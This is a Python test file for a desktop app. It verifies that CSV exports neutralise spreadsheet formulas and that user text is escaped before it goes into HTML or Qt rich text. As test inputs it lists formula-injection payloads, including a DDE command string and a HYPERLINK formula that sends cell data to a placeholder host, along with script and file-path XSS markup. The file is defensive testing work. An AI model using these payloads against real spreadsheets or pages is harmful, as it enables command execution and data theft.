"""Exports are safe: no CSV leaves the app except through core/exports.py
(which neutralises formula cells), and user text put into HTML or Qt rich
text is escaped by ``html_text``."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.core.exports import FORMULA_PREFIXES, csv_text, html_text, write_csv

PACKAGE = Path(__file__).resolve().parents[2] / "desktop"
THE_WRITER = PACKAGE / "core" / "exports.py"
CSV_WRITERS = {"writer", "DictWriter"}
FRAME_WRITERS = {"to_csv", "to_excel"}
EXEMPT = {
    "bench/data.py": "generates benchmark input files in the real export formats; never the owner's data",
}
"""Files allowed to write CSV directly, each with the reason (reviewed, not silent)."""


def csv_writers_in(source: str) -> list[str]:
    """Every use of csv.writer / csv.DictWriter (however imported) and of a
    DataFrame's to_csv / to_excel in ``source``, as 'line N: what'."""
    tree = ast.parse(source)
    from_csv: set[str] = set()
    csv_names = {"csv"}
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            for alias in node.names:
                if alias.name in CSV_WRITERS:
                    from_csv.add(alias.asname or alias.name)
                    found.append(f"line {node.lineno}: from csv import {alias.name}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "csv" and alias.asname:
                    csv_names.add(alias.asname)
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            if node.attr in CSV_WRITERS and isinstance(node.value, ast.Name) and node.value.id in csv_names:
                found.append(f"line {node.lineno}: {node.value.id}.{node.attr}")
            elif node.attr in FRAME_WRITERS:
                found.append(f"line {node.lineno}: .{node.attr}")
        elif isinstance(node, ast.Name) and node.id in from_csv and isinstance(node.ctx, ast.Load):
            found.append(f"line {node.lineno}: {node.id}")
    return sorted(set(found))


def test_every_exemption_is_still_needed() -> None:
    for name in EXEMPT:
        assert csv_writers_in((PACKAGE / name).read_text(encoding="utf-8")), f"{name} no longer writes CSV"


def test_the_scanner_finds_every_way_of_writing_a_csv() -> None:
    """The guard itself: each of these would write cells unneutralised."""
    assert csv_writers_in("import csv\ncsv.writer(f).writerow(r)\n") == ["line 2: csv.writer"]
    assert csv_writers_in("import csv as c\nw = c.DictWriter(f, h)\n") == ["line 2: c.DictWriter"]
    assert csv_writers_in("from csv import writer as w\nw(f)\n") == ["line 1: from csv import writer", "line 2: w"]
    assert csv_writers_in("df.to_csv(path)\n") == ["line 1: .to_csv"]
    assert csv_writers_in("frame.head().to_excel('x.xlsx')\n") == ["line 1: .to_excel"]
    assert csv_writers_in("import csv\nrows = csv.reader(f)\n") == []  # reading is fine


def test_no_csv_is_written_outside_core_exports() -> None:
    """Engineers adding an export later are caught here: use
    desktop.core.exports.write_csv / csv_text instead."""
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == THE_WRITER or path.relative_to(PACKAGE).as_posix() in EXEMPT:
            continue
        for hit in csv_writers_in(path.read_text(encoding="utf-8")):
            offenders.append(f"{path.relative_to(PACKAGE.parent)} {hit}")
    assert not offenders, ("CSV written without desktop.core.exports (formula injection):\n"
                           + "\n".join(offenders))


INJECTIONS = ('=HYPERLINK("http://x.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
              "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1\n=2+2")


def test_every_injection_reads_back_as_text(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "out.csv", ["text"], [[t] for t in INJECTIONS])
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in INJECTIONS]
    assert not any(r[0].startswith(FORMULA_PREFIXES) for r in rows[1:])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
def test_no_fuzzed_cell_starts_a_formula(cells: list[str]) -> None:
    _, row = list(csv.reader(io.StringIO(csv_text(["h"] * len(cells), [cells]), newline="")))
    assert not any(c.startswith(FORMULA_PREFIXES) for c in row)
    assert row == [("'" + c) if c.startswith(FORMULA_PREFIXES) else c for c in cells]


MARKUP = ('<b>bold</b>', '<img src="file:///etc/passwd">', '<a href="https://x.example">click</a>',
          "<script>alert(1)</script>", "Tom & Jerry's \"café\"", "<!-- hidden -->shown", "&amp; &lt;",
          "<style>*{color:red}</style>", "<table><tr><td>x</td></tr></table>")


def test_html_text_escapes_markup() -> None:
    assert html_text('<b>"x" & \'y\'</b>') == "&lt;b&gt;&quot;x&quot; &amp; &#x27;y&#x27;&lt;/b&gt;"
    assert html_text("one\ntwo\r\nthree") == "one<br>two<br>three"
    assert html_text(None) == "" and html_text(5) == "5"


def test_qt_rich_text_shows_escaped_text_literally(qapp) -> None:
    from PySide6.QtGui import QTextDocument

    for text in MARKUP:
        doc = QTextDocument()
        doc.setHtml(f"<p>{html_text(text)}</p>")
        assert doc.toPlainText() == text
        assert "<img" not in doc.toHtml().split("<body", 1)[1].replace("&lt;img", "")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp", "Zs")), max_size=40))
def test_qt_shows_any_fuzzed_text_literally(qapp, text: str) -> None:
    from PySide6.QtGui import QTextDocument

    doc = QTextDocument()
    doc.setHtml(html_text(text))
    assert doc.toPlainText() == text
